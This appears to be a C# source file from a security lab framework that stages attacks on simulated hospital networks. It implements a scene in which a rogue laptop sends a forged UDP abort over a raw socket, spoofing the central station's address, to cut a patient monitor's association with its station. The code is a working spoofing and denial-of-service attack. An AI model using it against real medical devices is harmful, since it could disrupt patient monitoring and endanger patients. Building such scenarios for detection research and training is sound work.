using System.Buffers.Binary;
using System.Net;
using System.Net.Sockets;
using Wardkeeper.Lab.Attacks.Packets;
using Wardkeeper.Lab.Emitters.DataExport;
using Wardkeeper.Lab.Site;

namespace Wardkeeper.Lab.Attacks.Monitors;

/// <summary>A laptop cuts a station off from a monitor: it aborts the association in the station's name, by one datagram with the station's address and port.</summary>
internal sealed class ForgedAbort() : Scene("monitor-abort",
    "A laptop aborts the association between a central station and a monitor in the station's name.",
    "一台笔记本电脑以中央站的名义中止其与监护仪的连接。",
    "T0814")
{
    private const int UdpLength = 8;
    private static readonly TimeSpan Patience = TimeSpan.FromMilliseconds(700);

    /// <inheritdoc/>
    public override async Task<SceneReport> RunAsync(SceneStage stage, CancellationToken cancel)
    {
        MonitorPair pair = MonitorPair.Of(stage);
        HostNamespace rogue = await stage.PlugAsync(RogueDevice.In(stage, pair.Monitor.Device.Department), cancel);
        int before = stage.Dice.Between(2, 5), vain = stage.Dice.Between(2, 4);

        stage.Begin();
        using (MonitorClient client = await MonitorClient.OpenAsync(pair.Station, pair.Monitor.Device.Ip, cancel))
        {
            for (int poll = 0; poll < before; poll++) await client.PollAsync(Nomenclature.Numeric, Nomenclature.ObservedValues, false, cancel);
            byte[] packet = Datagram(client.Local, new IPEndPoint(pair.Monitor.Device.Ip, MonitorServer.Port), AssociationBytes.Aborted);
            using (Socket raw = rogue.Socket(SocketType.Raw, ProtocolType.Raw)) await raw.SendToAsync(packet, SocketFlags.None, new IPEndPoint(pair.Monitor.Device.Ip, 0), cancel);
            await Task.Delay(stage.Dice.Time(200, 600), cancel);
            for (int poll = 0; poll < vain; poll++)
            {
                if (await client.IsAnsweredAsync(Patience, cancel)) throw new LabException($"{pair.Monitor.Device.Key} still answers: the forged abort did not arrive");
            }
        }
        // The station notices and begins anew.
        using (MonitorClient again = await MonitorClient.OpenAsync(pair.Station, pair.Monitor.Device.Ip, cancel))
        {
            await again.PollAsync(Nomenclature.Numeric, Nomenclature.ObservedValues, false, cancel);
            await again.ReleaseAsync(cancel);
        }
        return new SceneReport([AllOf(rogue)],
            [("attacker", rogue.Device.Ip.ToString()), ("station", pair.Station.Device.Key), ("monitor", pair.Monitor.Device.Key), ("polls-before", SceneStage.Text(before)), ("polls-in-vain", SceneStage.Text(vain))]);
    }

    /// <summary>A UDP datagram with its IPv4 header (RFC 768). A UDP checksum of 0 is none.</summary>
    private static byte[] Datagram(IPEndPoint from, IPEndPoint to, byte[] payload)
    {
        byte[] udp = new byte[UdpLength + payload.Length];
        BinaryPrimitives.WriteUInt16BigEndian(udp, (ushort)from.Port);
        BinaryPrimitives.WriteUInt16BigEndian(udp.AsSpan(2), (ushort)to.Port);
        BinaryPrimitives.WriteUInt16BigEndian(udp.AsSpan(4), (ushort)udp.Length);
        payload.CopyTo(udp.AsSpan(UdpLength));
        return RawPacket.Ip(from.Address, to.Address, ProtocolType.Udp, 0, 0, udp);
    }
}
